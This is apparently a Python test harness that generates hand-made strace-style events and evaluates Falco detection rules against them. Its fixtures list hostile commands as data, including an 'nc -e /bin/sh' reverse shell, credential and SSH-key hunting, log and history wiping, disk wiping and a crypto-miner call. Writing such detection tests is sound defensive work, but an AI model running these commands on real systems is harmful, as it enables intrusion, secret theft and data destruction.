"""Events made by hand for Falco rules, as strace would print them, and which rules match which, by a plain reading of the rules.

falco_events.py events OUT.strace
    writes the events
falco_events.py container DATABASE
    makes an imported trace that of a container, with users
falco_events.py expect host|container RULES...
    prints {"sets": N, "rules": {rule: [pid, ...]}}

The reading knows nothing of the tool that is tested: fields are a dictionary for each event, a check of a field that is not there is
false, and everything else follows from that.
"""

import fnmatch
import ipaddress
import json
import re
import sqlite3
import sys

import yaml

# The events.


class Events:
    def __init__(self):
        self.lines, self.sets, self.now, self.pid, self.current = [], 0, 0, 1000, None
        self.events, self.processes = [], {}

    def line(self, pid, call, result="0"):
        self.now += 1
        self.lines.append(f"{pid} {1_700_000_000 + self.now / 1000:.6f} {call} = {result} <0.000010>")

    def set(self, *programs):
        """A chain of processes; each is (exe, argv...). The last one is current."""
        self.sets += 1
        chain = []
        for exe, *argv in programs:
            if not chain:
                self.pid += 1
                pid = self.pid
            else:
                self.pid += 1
                pid = self.pid
                self.line(chain[-1], "clone(child_stack=NULL, flags=SIGCHLD)", pid)
            quoted = ", ".join('"' + arg.replace("\\", "\\\\").replace('"', '\\"') + '"' for arg in argv)
            self.line(pid, f'execve("{exe}", [{quoted}], 0x7ffc00000000 /* 1 var */)')
            self.processes[pid] = (exe, argv, list(chain))
            chain.append(pid)
            self.add(pid, "execve", path=exe)
        self.current = chain[-1]

    def add(self, pid, call, result="0", path=None, raw=None, path2=None, **more):
        exe, argv, chain = self.processes[pid]
        name = exe.rsplit("/", 1)[-1][:15]
        event = {"evt.type": call, "evt.dir": "<", "evt.num": "1", "container.id": "host", "proc.tty": "0"}
        failed = result.startswith("-")
        event["evt.res"] = result.split()[1] if failed else "SUCCESS"
        event["evt.rawres"] = str(more.pop("ret", result.split()[0]))
        event["evt.failed"] = "true" if failed else "false"
        event.update({"proc.name": name, "proc.exe": argv[0], "proc.exepath": exe, "proc.args": " ".join(argv[1:])})
        event["*proc.args"] = argv
        event["proc.cmdline"] = " ".join([name, *argv[1:]])
        names = []
        for depth, ancestor in enumerate(reversed(chain), 1):
            their_exe, their_argv, _ = self.processes[ancestor]
            their_name = their_exe.rsplit("/", 1)[-1][:15]
            names.append(their_name)
            event[f"proc.aname[{depth}]"] = their_name
            if depth == 1:
                event.update({"proc.pname": their_name, "proc.pexe": their_argv[0], "proc.pexepath": their_exe})
                event["proc.pcmdline"] = " ".join([their_name, *their_argv[1:]])
            if depth == 2:
                event["proc.aexe[2]"] = their_argv[0]
        event["proc.aname"] = names
        if path is not None:
            for field in ("path", "pathname", "filename", "name", "oldpath"):
                event[f"evt.arg.{field}"] = path
        if path2 is not None:
            event["evt.arg.newpath"] = event["evt.arg.linkpath"] = path2
        event.update(more)
        self.events.append((pid, event))

    def open(self, path, flags, fd="3", mode="", raw=None):
        pid = self.current
        self.line(pid, f'openat(AT_FDCWD, "{raw or path}", {flags}{mode})', fd)
        access = flags.split("|")[0]
        number = fd if not fd.startswith("-") else "-1"
        self.add(
            pid,
            "openat",
            result=fd,
            path=path,
            ret=number if number != "-1" else errno(fd),
            **{
                "fd.name": path,
                "fd.nameraw": raw or path,
                "fd.directory": path.rsplit("/", 1)[0] or "/",
                "fd.filename": path.rsplit("/", 1)[-1],
                "fd.num": number,
                "fd.typechar": "d" if "O_DIRECTORY" in flags else "f",
                "fd.type": "directory" if "O_DIRECTORY" in flags else "file",
                "evt.is_open_read": str(access in ("O_RDONLY", "O_RDWR")).lower(),
                "evt.is_open_write": str(access in ("O_WRONLY", "O_RDWR")).lower(),
                "evt.is_open_exec": str("O_CREAT" in flags and bool(int(mode[2:] or "0", 8) & 0o111)).lower(),
                "evt.arg.flags": flags,
            },
        )

    def call(self, text, call, result="0", **more):
        self.line(self.current, text, result)
        self.add(self.current, call, result=result, **more)

    def connect(self, host, port, result="0", udp=False):
        protocol = "UDP" if udp else "TCP"
        address = f'{{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr("{host}")}}'
        self.line(self.current, f"connect(3<{protocol}:[5]>, {address}, 16)", result)
        more = {
            "fd.num": "3", "fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip",
            "fd.rip": host, "fd.sip": host, "fd.ip": [host], "fd.rport": str(port), "fd.sport": str(port), "fd.port": [str(port)],
            "fd.net": [host], "fd.snet": host, "fd.rnet": host,
        }
        self.add(self.current, "connect", result=result, ret=errno(result), **more)


ERRNO = {"ENOENT": -2, "EACCES": -13, "EPERM": -1, "EINPROGRESS": -115, "ECONNREFUSED": -111}


def errno(result):
    return str(ERRNO[result.split()[1]]) if result.startswith("-1 ") else result


def made():
    e = Events()
    no_file, refused = "-1 ENOENT (No such file or directory)", "-1 EACCES (Permission denied)"
    bash = ("/bin/bash", "bash")
    # Shells below servers.
    e.set(("/usr/sbin/nginx", "nginx"), ("/bin/sh", "sh", "-c", "id"))
    e.set(("/usr/sbin/nginx", "nginx"), ("/bin/bash", "bash", "-c", "/usr/bin/x"), ("/usr/bin/id", "id"))
    e.set(("/usr/bin/redis-server", "redis-server"), ("/opt/loader", "loader"), ("/bin/dash", "dash", "-i"))
    e.set(("/usr/bin/dpkg", "dpkg"), ("/usr/sbin/nginx", "nginx"), ("/bin/sh", "sh", "-c", "id"))
    # Sensitive files.
    e.set(bash, ("/usr/bin/cat", "cat", "/etc/shadow"))
    e.open("/etc/shadow", "O_RDONLY|O_CLOEXEC")
    e.open("/etc/shadow", "O_RDONLY", refused)
    e.set(bash, ("/usr/bin/passwd", "passwd"))
    e.open("/etc/shadow", "O_RDONLY")
    e.set(bash, ("/usr/bin/vim", "vim", "/etc/passwd"))
    e.open("/etc/passwd", "O_WRONLY|O_CREAT|O_TRUNC", mode=", 0644")
    e.open("/etc/hosts", "O_RDWR")
    e.set(("/usr/sbin/nginx", "nginx"), ("/usr/bin/php", "php", "x.php"))
    e.open("/etc/passwd", "O_RDONLY", raw="/srv/../../etc/passwd")
    e.open("/root/.ssh/id_rsa", "O_RDONLY", no_file, raw="/srv/../../root/.ssh/id_rsa")
    e.set(bash, ("/usr/bin/tar", "tar", "c", "/root/.ssh"))
    e.open("/root/.ssh", "O_RDONLY|O_DIRECTORY")
    e.open("/root/.ssh/id_rsa", "O_RDONLY")
    # Logs and histories.
    e.set(bash, ("/usr/bin/truncate", "truncate", "-s", "0", "/var/log/auth.log"))
    e.open("/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC", mode=", 0666")
    e.set(bash, ("/usr/bin/shred", "shred", "-u", "/root/.bash_history"))
    e.open("/root/.bash_history", "O_WRONLY|O_TRUNC")
    e.call('unlink("/root/.bash_history")', "unlink", path="/root/.bash_history")
    e.call('rename("/root/.zsh_history", "/tmp/x")', "rename", path="/root/.zsh_history", path2="/tmp/x")
    e.set(bash, ("/usr/bin/shred", "shred", "/dev/sda"))
    # Links.
    e.set(bash, ("/usr/bin/ln", "ln", "-s", "/etc/shadow", "/tmp/l"))
    e.call('symlink("/etc/shadow", "/tmp/l")', "symlink", **{"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/l", "evt.arg.path": "/etc/shadow"})
    e.set(bash, ("/usr/bin/ln", "ln", "/etc/shadow", "/tmp/h"))
    e.call('link("/etc/shadow", "/tmp/h")', "link", path="/etc/shadow", path2="/tmp/h")
    # Other processes.
    e.set(bash, ("/usr/bin/gdb", "gdb", "-p", "1"))
    e.call("ptrace(PTRACE_ATTACH, 1)", "ptrace", **{"evt.arg.request": "PTRACE_ATTACH"})
    e.set(bash, ("/opt/protected", "protected"))
    e.call("ptrace(PTRACE_TRACEME)", "ptrace", **{"evt.arg.request": "PTRACE_TRACEME"})
    # Sockets.
    e.set(bash, ("/opt/sniff", "sniff"))
    e.call("socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))", "socket", "3", **{"evt.arg.domain": "AF_PACKET"})
    e.set(("/bin/sh", "sh"), ("/opt/shell", "shell"))
    e.connect("8.8.8.8", 4444)
    dup = {"fd.num": "3", "fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip"}
    e.call("dup2(3<TCP:[10.0.0.2:5000->8.8.8.8:4444]>, 0)", "dup2", "0", **dup)
    e.call("dup2(3<TCP:[10.0.0.2:5000->8.8.8.8:4444]>, 5)", "dup2", "5", **dup)
    e.set(bash, ("/usr/bin/curl", "curl", "http://169.254.169.254/"))
    e.connect("169.254.169.254", 80)
    e.connect("10.1.2.3", 443)
    e.connect("127.0.0.1", 80)
    e.connect("93.184.216.34", 443, "-1 EINPROGRESS (Operation now in progress)")
    e.connect("93.184.216.34", 444, "-1 ECONNREFUSED (Connection refused)")
    e.set(bash, ("/usr/bin/ssh", "ssh", "host"))
    e.connect("93.184.216.34", 2222)
    e.set(("/usr/sbin/sshd", "sshd"), ("/usr/sbin/sshd", "sshd"), ("/usr/bin/useradd", "useradd", "x"))
    e.connect("93.184.216.34", 53, udp=True)
    # Programs that tell by their arguments.
    for argv in (
        ["nc", "-e", "/bin/sh", "10.0.0.1", "99"],
        ["grep", "-r", "BEGIN RSA PRIVATE", "/"],
        ["find", "/", "-name", "id_rsa"],
        ["find", "/", "-name", ".aws/credentials"],
        ["base64", "-d", "x"],
        ["xmrig", "-o", "stratum+tcp://x:1"],
        ["wget", "http://x/y"],
        ["curl", "-o", "/tmp/x", "http://x"],
        ["apt-get", "install", "nmap"],
        ["dpkg", "-i", "x.deb"],
        ["rpm", "-i", "x.rpm"],
        ["docker", "ps"],
        ["kubectl", "get", "pods"],
        ["nmap", "-sS", "10.0.0.0/8"],
        ["tcpdump", "-i", "eth0"],
        ["mount", "/dev/sda", "/mnt"],
        ["mount", "-l"],
        ["mount"],
        ["debugfs", "/dev/sda"],
        ["rm", "-rf", "/var/log"],
        ["crontab", "-e"],
        ["useradd", "eve"],
        ["usermod", "-aG", "sudo", "eve"],
        ["sudoedit", "-s", "\\"],
        ["sudo", "-i", "a\\ b"],
        ["pkexec"],
        ["whoami"],
        ["scp", "a", "b:c"],
        ["ncat", "--sh-exec", "id"],
        ["dd", "if=/dev/zero", "of=/dev/sda"],
        ["chsh", "-s", "/bin/sh"],
        ["unshare", "-r"],
        ["nsenter", "-t", "1"],
        ["insmod", "x.ko"],
        ["bash", "-c", "cat .bash_history"],
        ["curl", "unix:///var/run/docker.sock"],
        ["iptables", "-F"],
    ):
        e.set(bash, (f"/usr/bin/{argv[0]}", *argv))
    e.set(("/usr/sbin/cron", "cron"), ("/usr/bin/wget", "wget", "x"))
    # The kernel.
    e.set(bash, ("/sbin/insmod", "insmod", "x.ko"))
    e.call('init_module(0x55d0c0a0b000, 4096, "")', "init_module")
    file = {"fd.name": "/x.ko", "fd.num": "3", "fd.typechar": "f", "fd.type": "file", "fd.directory": "/", "fd.filename": "x.ko"}
    e.call('finit_module(3</x.ko>, "", 0)', "finit_module", **file)
    e.set(bash, ("/opt/exploit", "exploit"))
    e.call("userfaultfd(O_CLOEXEC)", "userfaultfd", "3")
    e.call("bpf(BPF_PROG_LOAD, 0x7ffc00000000, 148)", "bpf", "4", **{"evt.arg.cmd": "BPF_PROG_LOAD"})
    e.call("unshare(CLONE_NEWUSER|CLONE_NEWNS)", "unshare", **{"evt.arg.flags": "CLONE_NEWUSER|CLONE_NEWNS"})
    e.call("setns(3<net:[1]>, CLONE_NEWNET)", "setns", **{"evt.arg.flags": "CLONE_NEWNET"})
    e.call("setuid(0)", "setuid", **{"evt.arg.uid": "0"})
    e.open("/sys/fs/cgroup/x/release_agent", "O_WRONLY")
    e.open("/proc/self/environ", "O_RDONLY")
    e.open("/proc/1/environ", "O_RDONLY")
    # Files.
    e.set(bash, ("/usr/bin/install", "install", "x"))
    e.open("/usr/bin/x", "O_WRONLY|O_CREAT|O_EXCL", mode=", 0755")
    e.open("/dev/shm/x", "O_RDWR|O_CREAT", mode=", 0600")
    e.open("/dev/evil", "O_WRONLY|O_CREAT", mode=", 0600")
    e.open("/dev/null", "O_WRONLY|O_CREAT", mode=", 0600")
    e.open("/root/.hidden", "O_WRONLY|O_CREAT", mode=", 0600")
    e.open("/etc/cron.d/x", "O_WRONLY|O_CREAT", mode=", 0600")
    e.open("/root/.bashrc", "O_WRONLY|O_APPEND")
    e.open("/root/.ssh/authorized_keys", "O_WRONLY|O_APPEND")
    e.open("/etc/ld.so.preload", "O_WRONLY|O_CREAT", mode=", 0644")
    e.open("/var/lib/rpm/x", "O_WRONLY")
    e.open("/etc/apt/sources.list", "O_WRONLY")
    e.open("/lib/x.so", "O_WRONLY", refused)
    e.call('chmod("/tmp/x", 04755)', "chmod", path="/tmp/x", **{"evt.arg.mode": "S_ISUID|S_IRWXU|S_IXUSR|S_IXGRP|S_IXOTH"})
    e.call('fchmodat(AT_FDCWD, "/tmp/x", 0644)', "fchmodat", path="/tmp/x", **{"evt.arg.mode": "S_IRUSR|S_IWUSR"})
    e.call('mkdir("/tmp/.x", 0700)', "mkdir", path="/tmp/.x", **{"evt.arg.mode": "S_IRUSR|S_IWUSR|S_IXUSR"})
    e.call('mkdir("/usr/bin/d", 0700)', "mkdir", path="/usr/bin/d", **{"evt.arg.mode": "S_IRUSR|S_IWUSR|S_IXUSR"})
    e.call('rename("/usr/bin/ls", "/usr/bin/ls2")', "rename", path="/usr/bin/ls", path2="/usr/bin/ls2")
    e.set(bash, ("/usr/bin/python3", "python3", "x.py"))
    e.open("/root/.aws/credentials", "O_RDONLY")
    e.open("/var/run/secrets/kubernetes.io/serviceaccount/token", "O_RDONLY")
    e.set(("/usr/bin/java", "java", "-jar", "x"), ("/usr/bin/curl", "curl", "x"))
    e.set(("/usr/sbin/mysqld", "mysqld"), ("/usr/bin/perl", "perl", "x"))
    e.set(("/usr/sbin/httpd", "httpd"), ("/usr/bin/id", "id"))
    return e


# A container and users.

CONTAINER = {
    "engine": "podman", "engine_version": "5", "runtime": "runc", "id": "0123456789abcdef0123456789abcdef", "name": "web",
    "image": "docker.io/library/web:1.2", "image_id": "", "image_digest": "", "repo_digests": [], "labels": {}, "env": [], "argv": [],
    "user": "", "mounts": [{"Source": "/proc", "Destination": "/host/proc"}], "capabilities": [], "security": [], "layers": [],
    "privileged": True,
}
CAPS = {1: "CAP_DAC_OVERRIDE", 16: "CAP_SYS_MODULE", 21: "CAP_SYS_ADMIN"}


def container(database):
    connection = sqlite3.connect(database)
    (text,) = connection.execute("SELECT json FROM manifest").fetchone()
    connection.execute("UPDATE manifest SET json = ?", (json.dumps(dict(json.loads(text), container=CONTAINER)),))
    # Every other process is root's, with some capabilities.
    connection.execute("UPDATE processes SET uid = CASE tgid % 2 WHEN 0 THEN 0 ELSE 1000 END, euid = CASE tgid % 2 WHEN 0 THEN 0 ELSE 1000 END, gid = 7")
    connection.execute(f"UPDATE processes SET cap_effective = CASE tgid % 2 WHEN 0 THEN {sum(1 << bit for bit in CAPS)} ELSE 0 END")
    connection.commit()


def in_container(events):
    for pid, event in events:
        root = pid % 2 == 0
        caps = " ".join(CAPS.values()) if root else ""
        yield pid, dict(
            event,
            **{
                "container.id": CONTAINER["id"][:12],
                "container.image.repository": "docker.io/library/web",
                "container.image.tag": "1.2",
                "container.image": CONTAINER["image"],
                "container.name": "web",
                "container.privileged": "true",
                "container.type": "podman",
                "container.mount.dest[/proc*]": "/host/proc",
                "user.uid": "0" if root else "1000",
                "thread.cap_effective": caps,
                "thread.cap_permitted": caps,
                "group.gid": "7",
            },
            **({"user.name": "root"} if root else {"user.name": "\0"}),
        )


# A plain reading of conditions.

TOKEN = re.compile(r"""\s*(?:(?P<quoted>"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*')|(?P<op><=|>=|!=|==|=|<|>)|(?P<mark>[(),])|(?P<word>[^\s()"'=,<>!]+))""")


class Reader:
    def __init__(self, text, lists, macros):
        self.tokens, at = [], 0
        while text[at:].strip():
            found = TOKEN.match(text, at)
            self.tokens.append((found.lastgroup, found.group(found.lastgroup)))
            at = found.end()
        self.at, self.lists, self.macros = 0, lists, macros

    def peek(self):
        return self.tokens[self.at][1] if self.at < len(self.tokens) else None

    def next(self):
        self.at += 1
        return self.tokens[self.at - 1]

    def any(self):
        all_ = [self.every()]
        while self.peek() == "or":
            self.next()
            all_.append(self.every())
        return lambda event: any(one(event) for one in all_)

    def every(self):
        all_ = [self.term()]
        while self.peek() == "and":
            self.next()
            all_.append(self.term())
        return lambda event: all(one(event) for one in all_)

    def term(self):
        kind, word = self.next()
        if word == "not" and kind == "word":
            inner = self.term()
            return lambda event: not inner(event)
        if word == "(":
            inner = self.any()
            assert self.next()[1] == ")"
            return inner
        if word in ("tolower", "toupper", "basename"):
            assert self.next()[1] == "("
            field = self.next()[1]
            assert self.next()[1] == ")"
            return self.check(field, word)
        if "." not in word:
            return Reader(self.macros[word], self.lists, self.macros).any()
        return self.check(word, None)

    def value(self):
        kind, text = self.next()
        return re.sub(r"\\([\\\"'])", r"\1", text[1:-1]) if kind == "quoted" else text, kind

    def listed(self, text, kind):
        if kind != "quoted" and text in self.lists:
            for item in self.lists[text]:
                item = str(item)
                quoted = len(item) > 1 and item[0] == item[-1] and item[0] in "\"'"
                yield from self.listed(item[1:-1] if quoted else item, "quoted" if quoted else "word")
        else:
            yield text

    def check(self, field, by):
        op = self.next()[1]
        values = []
        if op in ("in", "intersects", "pmatch") and self.peek() == "(":
            self.next()
            while self.peek() != ")":
                values += self.listed(*self.value())
                if self.peek() == ",":
                    self.next()
            self.next()
        elif op in ("in", "intersects", "pmatch"):
            values += self.listed(*self.value())
        elif op != "exists":
            values.append(self.value()[0])
        return lambda event: compared(event, field, by, op, values)


def compared(event, field, by, op, values):
    field = re.sub(r"^evt\.arg\[(\w+)\]$", r"evt.arg.\1", field)
    if field.startswith("container.mount.dest[") and field not in event and event.get("container.id") != "host":
        own = ["N/A"]
    else:
        own = event.get("*" + field) if op == "intersects" and "*" + field in event else event.get(field)
    if own is None or own == []:
        return False
    own = own if isinstance(own, list) else [own]
    change = {"tolower": str.lower, "toupper": str.upper, "basename": lambda text: text.rsplit("/", 1)[-1], None: lambda text: text}[by]
    own = [change(text) for text in own]
    if op == "exists":
        return own != ["N/A"]
    if op == "!=":
        return not any(one(field, text, "=", values) for text in own)
    return any(one(field, text, op, values) for text in own)


def one(field, own, op, values):
    network = re.fullmatch(r"fd\.[a-z]?net", field)
    if network:
        return any(ipaddress.ip_address(own) in ipaddress.ip_network(value) for value in values)
    if field.startswith(("evt.arg.flags", "evt.arg.mode", "thread.cap")) and op == "contains":
        return values[0] in own.replace("|", " ").split()
    if op in ("=", "==", "in", "intersects"):
        return own in values
    if op in ("<", "<=", ">", ">="):
        a, b = int(own), int(values[0])
        return {"<": a < b, "<=": a <= b, ">": a > b, ">=": a >= b}[op]
    if op == "pmatch":
        parts = own.split("/")
        return any(
            len(parts) >= len(value.rstrip("/").split("/"))
            and all(fnmatch.fnmatchcase(a, b) for a, b in zip(parts, value.rstrip("/").split("/")))
            for value in values
        )
    value = values[0]
    return {
        "contains": lambda: value in own,
        "icontains": lambda: value.lower() in own.lower(),
        "startswith": lambda: own.startswith(value),
        "endswith": lambda: own.endswith(value),
        "glob": lambda: fnmatch.fnmatchcase(own, value),
        "iglob": lambda: fnmatch.fnmatchcase(own.lower(), value.lower()),
        "regex": lambda: re.fullmatch(value, own) is not None,
        "bcontains": lambda: False,
    }[op]()


def expect(where, files):
    lists, macros, rules = {}, {}, {}
    for name in files:
        with open(name, encoding="utf-8") as file:
            for item in yaml.safe_load(file):
                if "list" in item:
                    lists[item["list"]] = item["items"]
                elif "macro" in item:
                    macros[item["macro"]] = item["condition"]
                elif "rule" in item:
                    rules[item["rule"]] = item
    events = made()
    all_ = list(in_container(events.events)) if where == "container" else events.events
    found = {}
    for name, rule in rules.items():
        condition = Reader(rule["condition"], lists, macros).any()
        found[name] = sorted({pid for pid, event in all_ if condition(event)})
    json.dump({"sets": events.sets, "rules": found}, sys.stdout)


if sys.argv[1] == "events":
    with open(sys.argv[2], "w", encoding="utf-8") as out:
        out.write("\n".join(made().lines) + "\n")
elif sys.argv[1] == "container":
    container(sys.argv[2])
else:
    expect(sys.argv[2], sys.argv[3:])
